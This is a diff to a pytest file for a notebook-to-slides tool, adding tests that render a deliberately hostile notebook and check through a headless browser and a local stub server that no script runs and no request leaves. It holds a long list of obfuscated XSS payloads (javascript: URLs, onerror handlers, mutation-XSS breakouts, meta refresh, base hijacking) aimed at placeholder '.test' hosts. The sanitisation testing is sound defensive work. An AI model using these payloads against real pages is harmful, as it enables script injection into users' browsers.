@@ -8,12 +8,21 @@ import json
 import re
 import shutil
 import subprocess
+import threading
+from collections import defaultdict
 from functools import cache
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import nbformat
 import pytest
 from bs4 import BeautifulSoup
-from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
+from nbformat.v4 import (
+    new_code_cell,
+    new_markdown_cell,
+    new_notebook,
+    new_output,
+    new_raw_cell,
+)
 
 from tools import notebooks, slides
 
@@ -158,6 +167,175 @@ def test_a_link_to_click_is_no_request():
         requests('<a href="https://example.org">there</a><style>/* https://example.org */</style>')
         == []
     )
+
+
+# Nothing of a stranger's runs
+
+POLICY = re.compile(r"<meta[^>]*Content-Security-Policy[^>]*>")
+HARMLESS = re.compile("http|https|mailto")
+ATTACKS = """
+[a](javascript:RUN)
+[b](JaVa&#10;ScRiPt:RUN)
+[c](<java	script:RUN>)
+[d](data:text/html,<script>RUN</script>)
+[e](vbscript:RUN)
+<javascript:RUN>
+[f]
+
+[f]: javascript&colon;RUN
+![g](URL/markdown.png "h")
+![i](javascript:RUN)
+
+<a href="javascript:RUN">j</a>
+<a href="&#x01;java&#x0A;script&colon;RUN">k</a>
+<a href=" &#106;avascript:RUN" autofocus onfocus="RUN" ping="URL/ping">l</a>
+<a href="data&colon;text/html;base64,PHNjcmlwdD4=">m</a>
+<a href="&#9;data:text/html,x">n</a>
+<a href="//HOST/other">o</a>
+<img src="URL/a.png" onerror="RUN" alt="">
+<img srcset="URL/b.png 2x" data-src="URL/lazy.png" alt="">
+<img src="data&colon;text/html,x" onload=RUN alt="">
+<img src=x onerror=RUN//
+<script>RUN</script>
+<script src="URL/script.js"></script>
+<svg onload="RUN"><image href="URL/svg.png"></image><a xlink:href="javascript:RUN">p</a></svg>
+<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"><!-- -->
+<noscript><p title="</noscript><img src=x onerror=RUN>">q</p></noscript>
+<iframe src="URL/frame"></iframe>
+<iframe srcdoc="<script>parent.document.title='taken'</script><img src='URL/inner.png'>"></iframe>
+<meta http-equiv="refresh" content="1; url=URL/refresh">
+<base href="URL/base/"><img src="relative.png" alt="">
+<form action="URL/form"><input type="image" src="URL/button.png"></form>
+<object data="URL/object"></object><embed src="URL/embed">
+<link rel="stylesheet" href="URL/style.css">
+<style>@import "URL/import.css"; body { background: url(URL/style.png) }</style>
+<p style="background: url(URL/attribute.png); text-align: url(URL/align.png)">r</p>
+<table background="URL/table.png"><tr><td>s</td></tr></table>
+<video poster="URL/poster.png" src="URL/film"></video><audio src="URL/sound" autoplay></audio>
+<details open ontoggle="RUN"><summary onclick="RUN">t</summary>u</details>
+<section data-background-image="URL/slide.png" data-background-iframe="URL/slide"></section>
+"""
+SVG = """<svg xmlns="http://www.w3.org/2000/svg" onload="RUN" width="9" height="9">
+<script>RUN</script><image href="URL/image.png" width="9" height="9"/>
+<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="URL/foreign"/></foreignObject>
+</svg>"""
+
+
+VIEW = "application_vnd.jupyter.widget-view+json"
+STATE = "application/vnd.jupyter.widget-state+json"
+
+
+def output(**data):
+    return new_output(
+        "display_data", {kind.replace("_", "/"): value for kind, value in data.items()}
+    )
+
+
+def hostile(host):
+    """A notebook with attacks in all places where a deck shows something of it.
+
+    RUN changes the title of the page, and tells a server that should never be asked.
+    """
+
+    def aimed(words):
+        run = "void(((new(Image)).src='URL/ran')+(document.title='taken'))"
+        return words.replace("RUN", run).replace("URL", f"http://{host}").replace("HOST", host)
+
+    attacks, svg = aimed(ATTACKS), aimed(SVG)
+    breakout = f'"><b>{attacks}</b><p title="'
+    figure = output(**{"image_png": PIXEL + breakout})
+    figure.metadata = {"image/png": {"alt": breakout}}
+    jpeg = output(image_jpeg=PIXEL)
+    jpeg.metadata = {"image/jpeg": {"width": aimed("1 onload=RUN"), "height": breakout}}
+    lines = [line for line in attacks.splitlines() if line]
+    streams = [new_output("stream", name=f"std{name}", text=attacks) for name in ("out", "err")]
+    error = new_output("error", ename="E", evalue=attacks, traceback=lines)
+    script = output(application_javascript=aimed("RUN"), text_plain="script")
+    widget = output(**{VIEW: {"model_id": "m"}, "text_plain": "widget"})
+    mermaid = output(**{"text_vnd.mermaid": attacks, "text_plain": "mermaid"})
+    cells = [
+        new_markdown_cell(f"# </title>{aimed('<script>RUN</script>')}\nThe title."),
+        new_markdown_cell(attacks),
+        *map(new_markdown_cell, lines),
+        new_markdown_cell("| a |\n|--:|\n" + "".join(f"| {line} |\n" for line in lines)),
+        code("x  # " + " ".join(lines), metadata={"tags": [aimed('"><script>RUN</script>')]}),
+        code("x", text(attacks), *map(text, lines)),
+        code("x", output(text_html=attacks), *(output(text_html=line) for line in lines)),
+        code("x", output(text_html=f"<table><tr><td>{attacks}</td></tr></table>")),
+        code("x", output(text_plain=attacks), output(text_latex=attacks), *streams, error),
+        code("x", output(**{"image_svg+xml": svg}), figure, jpeg, script, widget, mermaid),
+        new_raw_cell(attacks, metadata={"raw_mimetype": ""}),
+        new_markdown_cell("The end. [Home](https://example.org), [02](02_other.ipynb)"),
+    ]
+    for position, cell in enumerate(cells):
+        kind = "-" if position % 16 else "slide"
+        cell.metadata["slideshow"] = {"slide_type": kind, "data": {breakout: breakout}}
+    state = {STATE: {"state": {"m": {"a": breakout}}}}
+    return new_notebook(cells=cells, metadata={"title": breakout, "widgets": state})
+
+
+def harm(html):
+    """All that would run, or lead away, if the policy of the deck were not there.
+
+    And the policy, where it is another.
+    """
+    page = soup(html)
+    scripts = [str(script) for script in page.find_all("script")]
+    policy = page.head.find("meta", {"http-equiv": "Content-Security-Policy"})
+    own = " ".join(map(slides.fingerprint, scripts))
+    strict = f"default-src 'none'; img-src data:; style-src 'unsafe-inline'; script-src {own}; "
+    strict += "base-uri 'none'; form-action 'none'"
+    found = [] if policy and policy["content"] == strict else ["another policy"]
+    for element in page.main.find_all(True):
+        if not re.fullmatch(r"\w+", element.name) or element.name not in slides.TAGS | {"section"}:
+            found.append(f"<{element.name}>")
+        found += [f"{name}=" for name in element.attrs if name.startswith("on")]
+        target = re.sub(r"[\0-\x20]", "", element.get("href", ""))
+        protocol, colon, _ = re.split("[/?#]", target)[0].partition(":")
+        if target.startswith("//") or (colon and not HARMLESS.fullmatch(protocol.lower())):
+            found.append(f"href={target[:20]}")
+    return found
+
+
+@each_notebook
+def test_a_deck_is_harmless(name):
+    assert harm(deck(name)) == []
+
+
+@cache
+def attacked(host, cleaned=True):
+    with pytest.MonkeyPatch.context() as patch:
+        if not cleaned:
+            patch.setitem(slides.exporter().environment.filters, "clean", str)
+        return slides.render(hostile(host))
+
+
+def test_a_hostile_notebook_gives_a_harmless_deck():
+    html = attacked("both.test")
+    assert requests(html) == [] and harm(html) == []
+    assert soup(html).title.get_text().startswith("</title><script>void(")
+    assert "var element" not in html  # the text of a script or a widget is shown, not its code
+    last = [link["href"] for link in soup(html).select("main a")[-2:]]
+    assert last == ["https://example.org", "02_other.html"]
+
+
+def test_harm_is_caught():
+    assert harm(SMALL_DECK) == []
+    found = "\n".join(harm(attacked("policy.test", cleaned=False)))
+    for fault in (
+        "<script>",
+        "<iframe>",
+        "<meta>",
+        "<base>",
+        "onerror=",
+        "href=javascript",
+        "href=//",
+    ):
+        assert fault in found
+    for old, new in [("script-src", "script-src 'unsafe-inline'"), ("data:;", "data: http:;")]:
+        assert harm(SMALL_DECK.replace(old, new, 1)) == ["another policy"]
+    assert harm(POLICY.sub("", SMALL_DECK)) == ["another policy"]
+    assert harm(SMALL_DECK.replace("</body>", "<script>1</script></body>")) == ["another policy"]
 
 
 def formulas(notebook):
@@ -557,21 +735,41 @@ def test_without_a_name_it_is_all(tmp_path, monkeypatch):
     ],
 )
 def test_bad_input_writes_nothing(tmp_path, capsys, content, said):
-    path = tmp_path / "mine.ipynb"
+    good, path = tmp_path / "good.ipynb", tmp_path / "mine.ipynb"
+    nbformat.write(SMALL, good)
     if content:
         path.write_text(content, encoding="utf-8")
     before = sorted(tmp_path.iterdir())
-    assert slides.main(["02", str(path)], tmp_path / "slides") == 2
+    assert slides.main([str(good), str(path)], tmp_path / "slides") == 2
     message = capsys.readouterr().err
     assert message.startswith("tools.slides: ") and message.endswith(" Nothing was written.\n")
     assert said in message and len(message.splitlines()) == 1
     assert sorted(tmp_path.iterdir()) == before
 
 
+def test_a_name_that_leads_nowhere(tmp_path, capsys):
+    (tmp_path / "loop.ipynb").symlink_to("loop.ipynb")
+    (tmp_path / "zero.ipynb").symlink_to("/dev/zero")
+    (tmp_path / "folder.ipynb").mkdir()
+    for name in ("loop.ipynb", "zero.ipynb", "folder.ipynb", f"{'a' * 300}.ipynb"):
+        assert slides.main([str(tmp_path / name)], tmp_path / "slides") == 2
+        assert f"{name}: there is no such notebook. Give a num" in capsys.readouterr().err
+    assert not (tmp_path / "slides").exists()
+
+
 @pytest.fixture
 def quick(monkeypatch):
     """What is written does not matter here."""
     monkeypatch.setattr(slides, "render", lambda notebook: "new")
+
+
+def test_stopped(tmp_path, monkeypatch, capsys):
+    def stop(notebook):
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(slides, "render", stop)
+    assert slides.main(["02"], tmp_path / "slides") == 130
+    assert capsys.readouterr().err == "tools.slides: stopped.\n" and not any(tmp_path.iterdir())
 
 
 def test_a_folder_that_cannot_be_made(quick, tmp_path, capsys):
@@ -628,14 +826,12 @@ CHROMIUM = next(
     filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
 )
 WALK = """<script>
-addEventListener("load", () => setTimeout(() => {
+function walk(report) {
   const heading = document.querySelector("section.present h1");
   const box = heading?.getBoundingClientRect();
-  const seen = box && document.elementFromPoint(box.left + 5, box.top + box.height / 2) === heading;
-  const report = { ready: Reveal.isReady(), slides: Reveal.getTotalSlides(), seen };
-  report.high = [];
-  report.wide = [];
-  report.asked = performance.getEntriesByType("resource").map(entry => entry.name);
+  const at = box && document.elementFromPoint(box.left + 5, box.top + box.height / 2);
+  Object.assign(report, { seen: at && at === heading, slides: Reveal.getTotalSlides() });
+  Object.assign(report, { foot: document.querySelector(".where").textContent, high: [], wide: [] });
   for (let number = 1; number <= report.slides; number++, Reveal.next()) {
     const slide = Reveal.getCurrentSlide();
     if (slide.scrollHeight > slide.clientHeight + 1) report.high.push(number);
@@ -643,17 +839,59 @@ addEventListener("load", () => setTimeout(() => {
     if (Math.max(...right) > innerWidth) report.wide.push(number);
   }
   report.last = Reveal.isLastSlide();
-  document.documentElement.dataset.report = JSON.stringify(report);
+}
+addEventListener("load", () => setTimeout(() => {
+  const report = { ready: window.Reveal?.isReady() };
+  report.asked = performance.getEntriesByType("resource").map(entry => entry.name);
+  if (report.ready) walk(report);
+  const links = [...document.querySelectorAll("main a, main area")];
+  const bad = links.filter(link => /^(javascript|vbscript|data):/i.test(link.href));
+  report.links = bad.length;
+  bad.filter(link => link.protocol === "javascript:").forEach(link => link.click());
+  setTimeout(() => {
+    report.title = document.title;
+    parent.postMessage({ name: NAME, report }, "*");
+    [...document.forms].forEach(form => form.submit());
+  }, 300);
 }, 300));
-</script></body>"""
+</script>"""
+# all decks at once, since it is the start of a browser that takes time
+FRAMES = """<!DOCTYPE html><meta charset="utf-8"><script>
+const reports = {};
+addEventListener("message", event => {
+  if (event.data.name) reports[event.data.name] = event.data.report;
+  document.documentElement.dataset.reports = JSON.stringify(reports);
+});
+</script>
+<style>iframe { position: fixed; inset: 0; border: 0; width: 1280px; height: 720px }</style>"""
+
+ASKED = defaultdict(set)  # what the server was asked for, by host
 
 
-def walked(html, folder):
-    """What a browser without a network sees of a deck at 1280 by 720, slide by slide."""
-    if CHROMIUM is None:
-        pytest.skip("needs chromium (on Debian: apt-get install chromium)")
-    path = folder / "deck.html"
-    path.write_text(html.replace("</body>", WALK), encoding="utf-8")
+class Server(BaseHTTPRequestHandler):
+    """It stands for all hosts of the world."""
+
+    def do_GET(self):
+        ASKED[self.headers["Host"]].add(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, *_):
+        pass
+
+
+def browse(decks, folder):
+    """What a browser sees of each deck at 1280 by 720, slide by slide."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Server)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    frames = FRAMES
+    for name, html in decks.items():
+        walk = WALK.replace("NAME", json.dumps(name))
+        admitted = html.replace("script-src", f"script-src {slides.fingerprint(walk)}", 1)
+        page = admitted.replace("</head>", f"{walk}</head>", 1)
+        (folder / f"{name}.html").write_text(page, encoding="utf-8")
+        frames += f'<iframe src="{name}.html"></iframe>'
+    (folder / "frames.html").write_text(frames, encoding="utf-8")
     command = [
         CHROMIUM,
         "--headless",
@@ -662,36 +900,72 @@ def walked(html, folder):
         "--no-first-run",
         "--window-size=1280,720",
     ]
-    command += [f"--user-data-dir={folder / 'profile'}", "--host-resolver-rules=MAP * ~NOTFOUND"]
-    command += ["--virtual-time-budget=5000", "--dump-dom", path.as_uri()]
+    hosts = f"--host-resolver-rules=MAP * 127.0.0.1:{server.server_port}"
+    command += [f"--user-data-dir={folder / 'profile'}", hosts, "--virtual-time-budget=3000"]
+    command += ["--dump-dom", (folder / "frames.html").as_uri()]
     page = subprocess.run(
         command, capture_output=True, encoding="utf-8", timeout=100, check=True
     ).stdout
-    return json.loads(soup(page).html["data-report"])
+    server.shutdown()
+    return json.loads(soup(page).html["data-reports"])
+
+
+@pytest.fixture(scope="module")
+def reports(tmp_path_factory):
+    if CHROMIUM is None:
+        pytest.skip("needs chromium (on Debian: apt-get install chromium)")
+    planted = '<img src="http://small.test/a.png" alt=""><p class="huge">x</p><h3>'
+    planted = POLICY.sub("", SMALL_DECK).replace("<h3>", planted)
+    huge = "p.huge { width: 2000px; height: 2000px }</style>"
+    decks = {
+        "03_t_test": deck("03_t_test"),
+        "06_segments": deck("06_segments"),
+        "small": planted.replace("</style>", huge, 1),
+        "hidden": planted.replace("</style>", "main { display: none }</style>", 1),
+        "both": attacked("both.test"),
+        "cleaned": POLICY.sub("", attacked("cleaned.test")),
+        "policy": attacked("policy.test", cleaned=False),
+        "neither": POLICY.sub("", attacked("neither.test", cleaned=False)),
+    }
+    return browse(decks, tmp_path_factory.mktemp("decks"))
 
 
 @pytest.mark.parametrize("name", ["03_t_test", "06_segments"])
-def test_a_deck_in_a_browser(tmp_path, name):
-    report = walked(deck(name), tmp_path)
+def test_a_deck_in_a_browser(reports, name):
+    report = reports[name]
+    title = soup(deck(name)).title.get_text()
     assert report["ready"] and report["seen"] and report["last"]
+    assert report["title"] == report["foot"] == title
     assert report["slides"] == len(soup(deck(name)).select("section > section"))
-    assert report["asked"] == [] and report["wide"] == []
+    assert report["asked"] == report["wide"] == []
     assert (
         len(report["high"]) <= 0.05 * report["slides"]
     )  # they scroll; how many depends on the machine's fonts
 
 
-def test_the_browser_sees_faults(tmp_path):
-    planted = SMALL_DECK.replace(
-        "<h3>", '<img src="http://example.org/a.png" alt=""><p class="huge">x</p><h3>'
-    )
-    huge = "p.huge { width: 2000px; height: 2000px }</style>"
-    report = walked(planted.replace("</style>", huge, 1), tmp_path)
-    assert report["seen"] and report["asked"] == ["http://example.org/a.png"]
-    assert report["high"] == report["wide"] == [4]
-    assert not walked(planted.replace("</style>", "main { display: none }</style>", 1), tmp_path)[
-        "seen"
-    ]
+def test_the_browser_sees_faults(reports):
+    assert reports["small"]["seen"] and reports["small"]["asked"] == ["http://small.test/a.png"]
+    assert reports["small"]["high"] == reports["small"]["wide"] == [4]
+    assert not reports["hidden"]["seen"]
+
+
+@pytest.mark.parametrize("name", ["both", "cleaned"])
+def test_a_hostile_deck_in_a_browser(reports, name):
+    report = reports[name]
+    assert report["ready"] and report["last"] and report["links"] == 0 and report["asked"] == []
+    assert report["title"].startswith("</title>") and not ASKED[f"{name}.test"]
+
+
+def test_the_policy_alone_lets_nothing_run(reports):
+    """Nor does it ask for anything, but it cannot keep a page from leading elsewhere."""
+    report = reports["policy"]
+    assert report["title"].startswith("</title>") and report["links"] > 9
+    assert ASKED["policy.test"] <= {"/refresh"}
+
+
+def test_the_browser_sees_attacks(reports):
+    asked = ASKED["neither.test"]
+    assert len(asked) > 20 and {"/ran", "/a.png", "/lazy.png", "/refresh", "/frame"} <= asked
 
 
 def test_help_is_not_a_notebook(capsys):
